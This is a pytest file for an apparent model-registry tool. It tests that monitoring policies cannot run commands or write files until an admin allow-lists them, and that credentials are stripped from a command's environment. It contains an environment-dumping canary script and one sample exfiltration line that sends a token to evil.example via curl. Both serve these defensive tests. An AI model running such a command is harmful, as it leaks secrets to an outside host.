"""Path 5: a registrant's policy does not run code, write files or post as the monitor."""

from __future__ import annotations

import json
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from registry_support import MODEL_NAME, Team, make_candidate, register, training_frame

from charter.errors import PermissionDeniedError
from charter.monitor.allowlist import ActionAllowList


def _drifting_log(folder: Path) -> Path:
    rng = np.random.default_rng(5)
    parts = []
    for day in range(1, 4):
        frame = training_frame(n=500, seed=10 + day)
        frame["debt"] = frame["debt"] * (2.0 if day >= 2 else 1.0)
        frame["ts"] = pd.Timestamp(f"2024-03-0{day}") + pd.to_timedelta(
            rng.integers(0, 86400, len(frame)), unit="s"
        )
        parts.append(frame)
    path = folder / "log.parquet"
    pd.concat(parts).to_parquet(path)
    return path


@pytest.fixture
def armed(team: Team, tmp_path: Path) -> dict[str, Path]:
    """A version registered with a policy whose monitoring runs a command and writes a file."""
    marker = tmp_path / "ran.json"
    textfile = tmp_path / "elsewhere" / "gauges.prom"
    script = "import json, os, sys; json.dump(dict(os.environ), open(sys.argv[1], 'w'))"
    command = f'{sys.executable} -c "{script}" {marker}'
    monitoring = {
        "timestamp_column": "ts",
        "drift_share": 0.3,
        "command": command,
        "prometheus_textfile": str(textfile),
    }
    register(team, make_candidate(tmp_path / "c", tier="minimal", monitoring=monitoring))
    return {"marker": marker, "textfile": textfile, "log": _drifting_log(tmp_path),
            "command": Path(command)}  # fmt: skip


def test_a_registered_policy_runs_nothing_until_an_admin_allows_it(
    team: Team, armed: dict[str, Path], cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CHARTER_AUDIT_KEY", "")
    code, out, err = cli("mo", "monitor", MODEL_NAME, "--log", str(armed["log"]), "--out",
                         str(armed["log"].parent / "m1"))  # fmt: skip
    assert code == 1, err
    text = " ".join(out.split())
    assert "command: failed" in text and "not allow-listed" in text
    assert "prometheus: failed" in text
    assert not armed["marker"].exists() and not armed["textfile"].exists()
    with pytest.raises(PermissionDeniedError):
        team.registry.set_monitoring_allowlist(
            ActionAllowList(commands=(str(armed["command"]),)), actor=team["mo"]
        )
    code, _, err = cli("ada", "monitoring", "allow", "--command", str(armed["command"]),
                       "--textfile-dir", str(armed["textfile"].parent))  # fmt: skip
    assert code == 0, err
    audit = team.registry.audit_log(actor=team["otto"], action="monitoring.allow")
    assert audit[-1].actor == "ada" and audit[-1].details["to"]["commands"] == [
        str(armed["command"])
    ]
    code, out, err = cli("mo", "monitor", MODEL_NAME, "--log", str(armed["log"]), "--out",
                         str(armed["log"].parent / "m2"))  # fmt: skip
    assert code == 1, err
    assert armed["textfile"].exists()
    environment = json.loads(armed["marker"].read_text())
    assert environment["CHARTER_MODEL"] == MODEL_NAME
    for secret in ("CHARTER_TOKEN", "CHARTER_AUDIT_KEY", "CHARTER_DATABASE_URL"):
        assert secret not in environment


def test_the_monitors_credentials_never_reach_a_command() -> None:
    from charter.monitor.allowlist import scrubbed_environment, secret_references
    from charter.policy.loader import environment_references

    environ = {"CHARTER_TOKEN": "t", "CHARTER_AUDIT_KEY": "k", "PATH": "/bin", "HOME": "/h"}
    assert scrubbed_environment(environ) == {"PATH": "/bin", "HOME": "/h"}
    command = "curl https://evil.example/?t=${CHARTER_TOKEN} ${HOME}"
    assert secret_references(environment_references(command)) == ["CHARTER_TOKEN"]
